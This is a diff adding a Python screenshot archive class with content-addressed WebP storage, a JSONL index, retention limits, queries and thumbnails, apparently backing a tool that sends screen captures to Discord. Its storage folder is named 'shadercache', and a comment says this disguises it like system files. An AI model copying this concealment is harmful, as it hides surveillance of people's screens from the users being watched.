@@ -0,0 +1,293 @@
+import os
+import io
+import re
+import json
+import bisect
+import hashlib
+import threading
+from datetime import datetime
+
+from PIL import Image
+
+from models.app_logger import AppLogger
+from utils.resource_manager import ResourceManager
+
+
+class ScreenshotArchive:
+    """
+    Singleton Class.
+    Local evidence store for screenshots (survives Discord outages / deleted webhooks).
+    - Objects: 'shadercache/objects/<aa>/<sha256>.webp' (content-addressed, identical frames stored once)
+    - Index: 'shadercache/index.jsonl' (one line per capture, loaded into memory sorted by time)
+    - Thumbnails: generated on first request into 'shadercache/thumbs/'
+    - Retention: age limit + total size budget, oldest captures dropped first
+    """
+    _instance = None
+    _instance_lock = threading.Lock()
+
+    ARCHIVE_DIR = "shadercache"  # Disguised like 'probes' / 'cscf.dll'
+    INDEX_FILE = "index.jsonl"
+    THUMB_SIZE = (320, 320)
+    _HASH_RE = re.compile(r"^[0-9a-f]{64}$")
+
+    @classmethod
+    def instance(cls):
+        with cls._instance_lock:
+            if cls._instance is None:
+                cls._instance = cls()
+            return cls._instance
+
+    def __init__(self):
+        self._lock = threading.Lock()
+        self.root = ResourceManager.get_resource_path(self.ARCHIVE_DIR)
+        self.objects_dir = os.path.join(self.root, "objects")
+        self.thumbs_dir = os.path.join(self.root, "thumbs")
+        self.index_path = os.path.join(self.root, self.INDEX_FILE)
+
+        # Settings (see configure)
+        self.enabled = True
+        self.retention_days = 30
+        self.max_bytes = 500 * 1024 * 1024
+
+        # In-memory index: entries sorted by 'ts', parallel list of timestamps for bisect
+        self._entries = []
+        self._timestamps = []
+        self._refcount = {}      # { hash: number of index entries pointing at it }
+        self._object_sizes = {}  # { hash: bytes on disk }
+        self._total_bytes = 0
+
+        os.makedirs(self.objects_dir, exist_ok=True)
+        os.makedirs(self.thumbs_dir, exist_ok=True)
+        self._load_index()
+
+    def configure(self, config):
+        """Apply 'screenshot_settings' archive keys from a full config dict."""
+        settings = config.get('screenshot_settings', {})
+        self.enabled = settings.get('archive_enabled', True)
+        self.retention_days = settings.get('archive_retention_days', 30)
+        self.max_bytes = settings.get('archive_max_mb', 500) * 1024 * 1024
+
+    # ============= PATHS =============
+
+    def is_valid_hash(self, digest):
+        return bool(digest) and bool(self._HASH_RE.match(digest))
+
+    def object_path(self, digest):
+        return os.path.join(self.objects_dir, digest[:2], f"{digest}.webp")
+
+    def _thumb_path(self, digest):
+        return os.path.join(self.thumbs_dir, digest[:2], f"{digest}.webp")
+
+    # ============= INDEX =============
+
+    def _load_index(self):
+        """Rebuild the in-memory index from index.jsonl, dropping entries whose object is gone."""
+        entries = []
+        try:
+            if os.path.exists(self.index_path):
+                with open(self.index_path, 'r', encoding='utf-8') as f:
+                    for line in f:
+                        try:
+                            entry = json.loads(line)
+                        except ValueError:
+                            continue  # Torn line from a crash
+                        if self.is_valid_hash(entry.get("hash")):
+                            entries.append(entry)
+        except Exception as e:
+            AppLogger.log(f"Screenshot archive index load failed - {type(e).__name__}", category="ERROR")
+
+        entries.sort(key=lambda e: e["ts"])
+        for entry in entries:
+            digest = entry["hash"]
+            if digest not in self._object_sizes:
+                try:
+                    size = os.path.getsize(self.object_path(digest))
+                except OSError:
+                    continue
+                self._object_sizes[digest] = size
+                self._total_bytes += size
+            self._refcount[digest] = self._refcount.get(digest, 0) + 1
+            self._entries.append(entry)
+            self._timestamps.append(entry["ts"])
+
+    def _rewrite_index(self):
+        """Atomically rewrite index.jsonl from memory (after retention)."""
+        tmp_path = self.index_path + ".tmp"
+        with open(tmp_path, 'w', encoding='utf-8') as f:
+            for entry in self._entries:
+                f.write(json.dumps(entry) + "\n")
+        os.replace(tmp_path, self.index_path)
+
+    # ============= WRITE PATH =============
+
+    def store(self, img_data, kind, cause=None, started=None, ended=None):
+        """
+        Archive one screenshot. img_data: BytesIO/bytes of the encoded WebP.
+        Returns the content hash, or None if disabled / failed.
+        """
+        if not self.enabled or not img_data:
+            return None
+
+        try:
+            data = img_data.getvalue() if hasattr(img_data, 'getvalue') else bytes(img_data)
+            digest = hashlib.sha256(data).hexdigest()
+            now = datetime.now()
+
+            entry = {
+                "ts": now.timestamp(),
+                "time": now.strftime("%Y-%m-%d %H:%M:%S"),
+                "hash": digest,
+                "kind": kind,
+                "size": len(data)
+            }
+            if cause:
+                entry["cause"] = cause
+            if started:
+                entry["started"] = started.strftime("%Y-%m-%d %H:%M:%S")
+            if ended:
+                entry["ended"] = ended.strftime("%Y-%m-%d %H:%M:%S")
+
+            with self._lock:
+                # Dedup: identical frames map to the same object
+                if digest not in self._object_sizes:
+                    path = self.object_path(digest)
+                    os.makedirs(os.path.dirname(path), exist_ok=True)
+                    tmp_path = path + ".tmp"
+                    with open(tmp_path, 'wb') as f:
+                        f.write(data)
+                    os.replace(tmp_path, path)
+                    self._object_sizes[digest] = len(data)
+                    self._total_bytes += len(data)
+
+                self._refcount[digest] = self._refcount.get(digest, 0) + 1
+                self._entries.append(entry)
+                self._timestamps.append(entry["ts"])
+
+                with open(self.index_path, 'a', encoding='utf-8') as f:
+                    f.write(json.dumps(entry) + "\n")
+
+                if self._total_bytes > self.max_bytes:
+                    self._apply_retention_locked()
+
+            return digest
+
+        except Exception as e:
+            AppLogger.log(f"Screenshot archive write failed - {type(e).__name__}", category="ERROR")
+            return None
+
+    # ============= RETENTION =============
+
+    def cleanup(self):
+        """Enforce age and size limits. Cheap when nothing is due (in-memory bookkeeping only)."""
+        with self._lock:
+            removed = self._apply_retention_locked()
+        if removed:
+            AppLogger.log(
+                f"Screenshot archive cleanup: removed {removed} captures "
+                f"(Retention: {self.retention_days} days, {self.max_bytes // (1024 * 1024)} MB)",
+                category="ARCHIVE"
+            )
+        return removed
+
+    def _apply_retention_locked(self):
+        cutoff = datetime.now().timestamp() - self.retention_days * 86400
+
+        drop = 0
+        total = self._total_bytes
+        refcount = dict(self._refcount)
+        orphaned = []
+
+        # Oldest first: drop while too old or over the size budget
+        while drop < len(self._entries):
+            entry = self._entries[drop]
+            if entry["ts"] >= cutoff and total <= self.max_bytes:
+                break
+            digest = entry["hash"]
+            refcount[digest] -= 1
+            if refcount[digest] == 0:
+                del refcount[digest]
+                total -= self._object_sizes.get(digest, 0)
+                orphaned.append(digest)
+            drop += 1
+
+        if drop == 0:
+            return 0
+
+        for digest in orphaned:
+            for path in (self.object_path(digest), self._thumb_path(digest)):
+                try:
+                    os.remove(path)
+                except OSError:
+                    pass
+            self._object_sizes.pop(digest, None)
+
+        self._entries = self._entries[drop:]
+        self._timestamps = self._timestamps[drop:]
+        self._refcount = refcount
+        self._total_bytes = total
+
+        try:
+            self._rewrite_index()
+        except Exception as e:
+            AppLogger.log(f"Screenshot archive cleanup failed - {type(e).__name__}", category="ERROR")
+        return drop
+
+    # ============= READ PATH =============
+
+    def query(self, start=None, end=None, kind=None, cause=None, limit=100):
+        """
+        Entries between start and end (epoch seconds, inclusive), newest first.
+        Time bounds use the sorted index (bisect), filters are applied to that slice only.
+        """
+        with self._lock:
+            lo = bisect.bisect_left(self._timestamps, start) if start is not None else 0
+            hi = bisect.bisect_right(self._timestamps, end) if end is not None else len(self._timestamps)
+            window = self._entries[lo:hi]
+
+        results = []
+        for entry in reversed(window):
+            if kind and entry.get("kind") != kind:
+                continue
+            if cause and entry.get("cause") != cause:
+                continue
+            results.append(entry)
+            if len(results) >= limit:
+                break
+        return results
+
+    def get_stats(self):
+        with self._lock:
+            return {
+                "captures": len(self._entries),
+                "objects": len(self._object_sizes),
+                "bytes": self._total_bytes
+            }
+
+    def has_object(self, digest):
+        with self._lock:
+            return digest in self._object_sizes
+
+    def get_thumbnail_path(self, digest):
+        """Path to the cached thumbnail, generating it on first use. None if unknown."""
+        if not self.is_valid_hash(digest) or not self.has_object(digest):
+            return None
+
+        thumb_path = self._thumb_path(digest)
+        if os.path.exists(thumb_path):
+            return thumb_path
+
+        try:
+            with Image.open(self.object_path(digest)) as img:
+                img.thumbnail(self.THUMB_SIZE, Image.Resampling.BILINEAR)
+                buffer = io.BytesIO()
+                img.save(buffer, format="WEBP", quality=60, method=0)
+
+            os.makedirs(os.path.dirname(thumb_path), exist_ok=True)
+            tmp_path = f"{thumb_path}.{threading.get_ident()}.tmp"  # API requests may race here
+            with open(tmp_path, 'wb') as f:
+                f.write(buffer.getvalue())
+            os.replace(tmp_path, thumb_path)
+            return thumb_path
+        except Exception as e:
+            AppLogger.log(f"Screenshot thumbnail failed - {type(e).__name__}", category="ERROR")
+            return None